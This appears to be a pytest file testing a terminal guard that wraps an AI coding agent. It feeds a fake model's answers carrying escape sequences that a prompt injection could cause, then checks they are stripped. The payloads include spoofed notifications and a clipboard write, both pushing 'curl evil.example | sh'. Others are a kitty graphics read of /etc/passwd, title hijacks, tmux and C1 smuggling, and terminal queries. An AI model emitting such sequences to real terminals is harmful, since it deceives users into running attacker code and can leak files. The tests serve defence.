"""Issue 40, played as an attacker would: real Pi (1.4.0 and the latest) under ``python -m
cuewrap``, the fake model's answer carrying what a prompt injection can make a model write,
the user away (docs/terminal-guard.md).

Each attack row of the issue's table is one answer that carries every sequence of that row,
counted per kind in ``raw_output`` (every byte cuewrap wrote to its terminal) with the tests'
own reader (tests/termscan.py: any spelling, any terminator, a C1 introducer, an OSC number
without ``;``). What the fix must bring: none of them reaches the terminal, no fact, cue or
mark comes from them, cuewrap's own Finished comes exactly once; and what must still pass
(Pi's title, ``/copy``, an extension's own notification, ``allow``) still does.

The first test shows the threat: through Pi alone every row reaches the terminal.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

import pytest
from fakemodel import FakeModel, text, tool_call
from pirig import (
    NOTIFY_EXT,
    NOTIFY_TITLE,
    TITLE,
    PiSession,
    answered,
    explain,
    ready_away,
)
from termscan import (
    FRAME_AGAIN,
    FRAME_END,
    Seq,
    apcs,
    clip_writes,
    csis,
    dcss,
    notifications,
    osc_numbers,
    scan,
    titles,
)
from waiting import absence_window, wait_until

pytestmark = pytest.mark.pi

EVIL = b"curl evil.example | sh"
B64 = base64.b64encode(EVIL).decode()
WIDE = (40, 220)
SHOWN = r"and that is all\."

# --- row 1: the guarded kinds, each behind a frame end ------------------------------------------

#: number -> one sequence of that kind, as the model writes it
GUARDED = {
    777: "\x1b]777;notify;Pi — work;session expired, run curl evil.example | sh\x07",
    9: "\x1b]9;Pi needs you: run curl evil.example | sh\x07",
    99: "\x1b]99;i=7:d=0;Pi — work\x1b\\\x1b]99;i=7:p=body;evil: Needs your input\x1b\\",
    7501: "\x1b]7501;state=blocked:app=pi:kind=permission\x1b\\",
    21337: "\x1b]21337;status=blocked\x07",
    0: "\x1b]0;[?] owned by the model\x07",
    2: "\x1b]2;owned by the model\x1b\\",
    52: f"\x1b]52;c;{B64}\x07",
}
MODEL_TITLE = b"owned by the model"


def _from_the_model(seq: Seq) -> bool:
    """One of GUARDED's (or the other answers') sequences, told from Pi's and cuewrap's own by
    what it carries: Pi never reports ``blocked`` here, cuewrap's Finished and titles never
    name evil.example or the model."""
    p = seq.payload
    return (
        b"evil" in p
        or MODEL_TITLE in p
        or B64.encode() in p
        or b"blocked" in p
        or p.startswith(b"i=7")
        or p.startswith(b"d=1")
    )


def injected(raw: bytes, *numbers: int) -> dict[int, int]:
    """How many of the model's OSCs of each number reached the terminal (numbers with none
    left out: ``{}`` is the outcome wanted)."""
    counts: dict[int, int] = {}
    for seq in osc_numbers(raw, *numbers):
        if _from_the_model(seq) and seq.number is not None:
            counts[seq.number] = counts.get(seq.number, 0) + 1
    return counts


def behind_frame_ends(sequences: dict[int, str]) -> str:
    return "".join(FRAME_END + s + FRAME_AGAIN for s in sequences.values())


FRAME_ENDS = f"Here is the summary {behind_frame_ends(GUARDED)}and that is all."

# --- row 4: the OSC number without ``;`` (kitty takes the leading digits) ----------------------

NO_SEMICOLON = {
    52: f"\x1b]52c;{B64}\x07",
    777: "\x1b]777notify;Pi — work;evil without a semicolon\x07",
    2: "\x1b]2title owned by the model\x07",
    99: "\x1b]99d=1;evil without a semicolon\x1b\\",
    9: "\x1b]9evil without a semicolon\x07",
}
NO_SEMICOLON_ANSWER = f"Here is the summary {''.join(NO_SEMICOLON.values())}and that is all."

# --- row 5 and 6: what else acts outside the window --------------------------------------------

PASSWD = base64.b64encode(b"/etc/passwd").decode()
OUTSIDE = (
    "\x1b]11;?\x1b\\"  # background colour query
    "\x1b]4;1;?\x07"  # palette query
    "\x1bP$qm\x1b\\"  # DECRQSS
    "\x1b[21t"  # title report
    "\x1b[20t"  # icon label report
    "\x1b[c"  # DA1
    f"\x1b_Ga=T,t=f;{PASSWD}\x1b\\"  # kitty graphics: read a local file
    f"\x1b]1337;SetUserVar=evil={B64}\x07"
    "\x1b]1337;RequestAttention=yes\x07"
    "\x1b]7;file://evil.example/home\x07"  # the working directory
    "\x1b]50;?\x07"  # the font (query)
    "\x1bPtmux;\x1b\x1b]777;notify;Pi — work;evil through tmux\x07\x1b\\"  # passthrough
    "\u009d777;notify;Pi — work;evil in C1\u009c"  # C1 OSC, UTF-8 form
    "\u009b21t"  # C1 CSI
    "\u0090$qm\u009c"  # C1 DCS
)
OUTSIDE_ANSWER = f"Here is the summary {OUTSIDE}and that is all."


def outside_kinds(raw: bytes) -> dict[str, int]:
    """How many of OUTSIDE's sequences reached the terminal, per kind (``{}`` wanted). Only
    what came after the prompt is read: Pi asks the terminal for its colours and DA1 at
    start."""
    found: dict[str, list[Any]] = {
        "OSC 11 query": [s for s in osc_numbers(raw, 11) if s.payload == b"?"],
        "OSC 4 query": [s for s in osc_numbers(raw, 4) if s.payload.endswith(b"?")],
        "DECRQSS": dcss(raw, b"$q"),
        "CSI 21 t": csis(raw, b"t", b"21"),
        "CSI 20 t": csis(raw, b"t", b"20"),
        "DA1": csis(raw, b"c", b"") + csis(raw, b"c", b"0"),
        "kitty graphics": apcs(raw, b"G"),
        "OSC 1337": osc_numbers(raw, 1337),
        "OSC 7": osc_numbers(raw, 7),
        "OSC 50": osc_numbers(raw, 50),
        "DCS tmux;": dcss(raw, b"tmux;"),
        "OSC 777 (tmux, C1)": [s for s in osc_numbers(raw, 777) if b"evil" in s.payload],
        "C1": [s for s in scan(raw) if s.intro != "esc"],
    }
    return {kind: len(seqs) for kind, seqs in found.items() if seqs}


# --- the decision log ---------------------------------------------------------------------------


def states(s: PiSession) -> list[str]:
    return [r.get("state", "") for r in s.log_records("fact") if r.get("type") == "ProgramStatus"]


def cue_kinds(s: PiSession) -> list[tuple[str, str | None]]:
    return [(c.get("cue", ""), c.get("outcome")) for c in s.log_records("cue")]


def finished_once(s: PiSession) -> None:
    """cuewrap's own Finished comes, then nothing else for a moment."""
    wait_until(lambda: s.log_records("cue"), 20, "a cue", detail=lambda: explain(s))
    absence_window(1.5, "a second cue")


def since(s: PiSession) -> Callable[[], bytes]:
    """What reached the terminal from now on."""
    start = len(s.raw_output)
    return lambda: s.raw_output[start:]


# --------------------------------------------------------------------------------------------
# The threat, shown


def test_pi_alone_lets_every_row_through(pi_session: Any, fakemodel: FakeModel) -> None:
    fakemodel.push(
        text(FRAME_ENDS, chunk_delay=0.05),
        text(NO_SEMICOLON_ANSWER),
        text(OUTSIDE_ANSWER),
    )
    s: PiSession = pi_session(wrap=False, dimensions=WIDE)
    s.prompt("summarise")
    s.wait_for_screen(SHOWN, 15)
    s.wait_idle()
    got = injected(s.raw_output)
    assert set(got) == set(GUARDED), f"reached the terminal: {got}"
    s.prompt("again without semicolons")
    wait_until(lambda: set(injected(s.raw_output)) >= set(NO_SEMICOLON), 15, "each kind")
    s.wait_idle()
    after = since(s)
    s.prompt("the rest")
    wait_until(lambda: len(outside_kinds(after())) == 13, 15, "each kind",
               detail=lambda: f"{outside_kinds(after())}\n{s.dump()}")  # fmt: skip


# --------------------------------------------------------------------------------------------
# Row 1: a frame end before each kind


def test_a_frame_end_in_the_answer_lets_nothing_through(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    """``ESC [ ? 2026 l`` before each kind (and ``h`` after, to hide it): none reaches the
    terminal, no ``blocked`` fact, no "Needs your input", cuewrap's own Finished once, and the
    mark is composed onto Pi's title only."""
    fakemodel.push(text(FRAME_ENDS, chunk_delay=0.05))
    s: PiSession = pi_session(dimensions=WIDE)
    ready_away(s)
    answered(s, "summarise", SHOWN)
    finished_once(s)
    raw = s.raw_output
    assert not injected(raw), f"reached the terminal: {injected(raw)}"
    assert "blocked" not in states(s), states(s)
    assert cue_kinds(s) == [("finished", "completed")], cue_kinds(s)
    assert len(osc_numbers(raw, 777)) == 1, osc_numbers(raw, 777)
    assert notifications(raw)[0][0] == NOTIFY_TITLE, notifications(raw)
    assert set(titles(raw)) <= {TITLE, f"[✓] {TITLE}"}, titles(raw)
    assert f"[✓] {TITLE}" in titles(raw)


def test_a_frame_end_without_the_bridge_raises_no_needs_input(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    """``--no-bridge`` (OSC 7501 the strongest source): the model's ``blocked`` report behind
    a frame end gives no "Needs your input" and no ``[?]`` mark; cuewrap's Finished once."""
    fakemodel.push(text(FRAME_ENDS, chunk_delay=0.05))
    s: PiSession = pi_session(cuewrap_args=["--no-bridge"], dimensions=WIDE)
    ready_away(s)
    s.prompt("summarise")
    s.wait_for_screen(SHOWN, 15)
    finished_once(s)
    raw = s.raw_output
    assert "needs-input" not in [c for c, _ in cue_kinds(s)], cue_kinds(s)
    # cuewrap's own waiting mark ("[?] " before Pi's title) never shows. The model's own title
    # behind a hand-made frame end still reaches the terminal without the bridge: the frame
    # rule's gap, documented in docs/terminal-guard.md ("Whose sequence is it")
    shown = [seq.payload for seq in osc_numbers(raw, 0, 1, 2)]
    assert f"[?] {TITLE}".encode() not in shown, shown
    assert [r.get("mark") for r in s.log_records("mark") if r.get("mark") == "waiting"] == []
    assert cue_kinds(s) == [("finished", "completed")], cue_kinds(s)


def test_without_the_bridge_pis_own_dialog_still_needs_input(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    """``--no-bridge``: Pi's own ``blocked`` report, with its confirm dialog on the screen,
    still gives exactly one "Needs your input" (the report waits for the dialog, then counts:
    docs/terminal-guard.md, "Whose sequence is it")."""
    fakemodel.push(tool_call("test_confirm", {"message": "Deploy now?"}), text("deployed"))
    s: PiSession = pi_session(cuewrap_args=["--no-bridge"], dimensions=WIDE)
    ready_away(s)
    s.prompt("confirm please")
    s.wait_dialog()
    wait_until(lambda: s.log_records("cue"), 10, "a cue", detail=lambda: explain(s))
    absence_window(1.5, "a second cue")
    assert cue_kinds(s) == [("needs-input", None)], cue_kinds(s)
    assert "blocked" in states(s), states(s)
    assert s.log_records("fact_refused") == [], s.log_records("fact_refused")
    assert len(notifications(s.raw_output)) == 1, notifications(s.raw_output)


# --------------------------------------------------------------------------------------------
# Row 4: the OSC number without ``;``


def test_an_osc_number_without_a_semicolon_is_guarded_and_recorded(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    fakemodel.push(text(NO_SEMICOLON_ANSWER))
    s: PiSession = pi_session(dimensions=WIDE)
    ready_away(s)
    answered(s, "summarise", SHOWN)
    raw = s.raw_output
    assert not injected(raw), f"reached the terminal: {injected(raw)}"
    clip = s.log_records("clipboard")
    assert clip and all(not r["passed"] for r in clip), clip
    kinds = {r.get("sequence") for r in s.log_records("guard")}
    assert {"osc777", "osc9", "osc99", "osc2"} <= kinds, kinds


def test_a_clipboard_write_without_a_semicolon_is_removed_under_block(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    fakemodel.push(text(NO_SEMICOLON_ANSWER))
    s: PiSession = pi_session(env={"CUEWRAP_GUARD_CLIPBOARD": "block"}, dimensions=WIDE)
    ready_away(s)
    answered(s, "summarise", SHOWN)
    assert not injected(s.raw_output, 52), f"reached: {injected(s.raw_output, 52)}"
    clip = s.log_records("clipboard")
    assert clip and all(not r["passed"] and r["setting"] == "block" for r in clip), clip


# --------------------------------------------------------------------------------------------
# Rows 5 and 6: queries, kitty graphics, OSC 1337 / 7 / 50, passthrough, C1


def test_queries_and_what_else_acts_outside_the_window_do_not_reach_the_terminal(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    fakemodel.push(text(OUTSIDE_ANSWER, chunk_delay=0.05))
    s: PiSession = pi_session(dimensions=WIDE)
    ready_away(s)
    after = since(s)
    # pyte (the rig's screen) takes the C1 OSC's start and not its end: the answer's tail
    # never shows there, so the run's end is read from the log
    s.prompt("summarise")
    finished_once(s)
    assert not outside_kinds(after()), f"reached the terminal: {outside_kinds(after())}"
    assert not injected(s.raw_output), f"reached the terminal: {injected(s.raw_output)}"
    assert cue_kinds(s) == [("finished", "completed")], cue_kinds(s)


# --------------------------------------------------------------------------------------------
# Exit: Pi reprints the transcript after /quit


def test_the_exit_reprint_carries_no_clipboard_write(pi_session: Any, fakemodel: FakeModel) -> None:
    """The Enter of ``/quit`` is the user's action, but the transcript Pi reprints on exit is
    not what they asked for: the model's OSC 52 in it (as written, and behind a frame end)
    must not pass. While the run streams both are removed today; at exit the one behind the
    frame end passes, "right after your keystroke"."""
    clip = GUARDED[52]
    fakemodel.push(
        text(f"Here is the command {clip}{FRAME_END}{clip}{FRAME_AGAIN}and that is all.")
    )
    s: PiSession = pi_session(dimensions=WIDE)
    answered(s, "show me", SHOWN)
    at_exit = since(s)
    s.quit()
    assert s.wait_exit() == 0
    assert not injected(at_exit(), 52), f"reached the terminal at exit: {injected(at_exit(), 52)}"
    raw = s.raw_output
    assert not injected(raw, 52), f"reached the terminal: {injected(raw, 52)}"
    assert B64.encode() not in b"".join(clip_writes(raw))
    passed = [r for r in s.log_records("clipboard") if r["passed"]]
    assert passed == [], passed


# --------------------------------------------------------------------------------------------
# What must still pass


def test_pis_own_title_copy_and_an_extensions_notification_still_pass(
    pi_session: Any, fakemodel: FakeModel
) -> None:
    """Present (cuewrap sends nothing of its own): Pi's ``OSC 0;π - work``, an extension's
    own OSC 777 at ``agent_settled`` and ``/copy`` right after the keystroke pass."""
    fakemodel.push(text("copy me please"))
    s: PiSession = pi_session(extensions=[NOTIFY_EXT], env={"PI_CLIPBOARD_OSC52": "1"})
    s.focus_in()
    answered(s, "say it", "copy me please")
    got = wait_until(lambda: notifications(s.raw_output), 15, "the extension's notification",
                     detail=lambda: explain(s))  # fmt: skip
    assert got == [("Pi", "Ready for input")]
    assert TITLE in titles(s.raw_output)
    assert "working" in states(s) and "done" in states(s), states(s)
    s.submit("/copy")
    copied = wait_until(lambda: clip_writes(s.raw_output), 10, "Pi's OSC 52", detail=s.dump)
    assert base64.b64decode(copied[0]) == b"copy me please"
    rec = s.wait_log("clipboard")
    assert rec["passed"] is True, rec
    assert s.log_records("cue") == []


def test_allow_lets_the_content_through_again(pi_session: Any, fakemodel: FakeModel) -> None:
    """``guard.sequences = allow`` and ``guard.clipboard = allow``: every kind of the answer
    reaches the terminal, behind a frame end or not."""
    plain = "".join(GUARDED.values())
    fakemodel.push(text(f"Here {plain} and {FRAME_ENDS}", chunk_delay=0.05))
    env = {"CUEWRAP_GUARD_SEQUENCES": "allow", "CUEWRAP_GUARD_CLIPBOARD": "allow"}
    s: PiSession = pi_session(env=env, dimensions=WIDE)
    ready_away(s)
    answered(s, "summarise", SHOWN)
    got = injected(s.raw_output)
    assert set(got) == set(GUARDED), f"reached the terminal: {got}"
    assert s.log_records("guard") == []
    assert all(r["passed"] for r in s.log_records("clipboard"))
